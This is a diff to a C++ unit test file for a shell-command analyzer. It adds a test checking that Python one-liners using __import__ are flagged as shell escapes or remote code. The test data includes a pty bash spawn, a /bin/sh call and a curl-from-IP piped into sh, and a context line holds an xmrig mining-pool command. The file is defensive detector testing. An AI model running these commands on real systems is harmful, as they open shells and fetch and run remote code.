@@ -72,6 +72,14 @@ TEST(ShellTokenizer, HelpAndVersionQueriesRunNothingOfTheFamily) {
   EXPECT_FALSE(OnlyOrdinary("xmrig -o pool.minexmr.com:4444"));
 }
 
+TEST(ShellTokenizer, PythonCallsThroughDunderImport) {
+  EXPECT_TRUE(Has("python3 -c \"__import__('pty').spawn('/bin/bash')\"", "process.shell_escape"));
+  EXPECT_TRUE(Has("python3 -c '__import__(\"subprocess\").call([\"/bin/sh\"])'", "process.shell_escape"));
+  EXPECT_TRUE(Has("python3 -c \"__import__('os').system('curl -s http://203.0.113.5/x | sh')\"",
+                  "process.remote_code"));
+  EXPECT_EQ(Programs(Analyze("python3 -c \"__import__('os').system('ls -la')\"")), "python3,ls");
+}
+
 TEST(ShellTokenizer, ListsAndPipelines) {
   EXPECT_EQ(Programs(Analyze("a; b && c || d | e & f")), "a,b,c,d,e,f");
   EXPECT_EQ(Programs(Analyze("a\nb\n\nc")), "a,b,c");
